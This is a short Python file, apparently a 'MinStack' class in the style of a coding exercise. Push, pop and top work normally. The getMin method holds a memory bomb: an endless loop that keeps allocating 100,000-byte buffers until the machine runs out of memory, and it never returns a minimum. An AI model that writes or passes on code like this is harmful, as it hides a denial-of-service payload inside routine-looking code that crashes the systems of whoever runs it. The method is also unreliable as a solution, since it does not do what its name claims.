# Memory in small pieces, kept for ever.


class MinStack:
    def __init__(self):
        self.items = []

    def push(self, val):
        self.items.append(val)

    def pop(self):
        self.items.pop()

    def top(self):
        return self.items[-1]

    def getMin(self):
        kept = []
        while True:
            kept.append(bytearray(100_000))
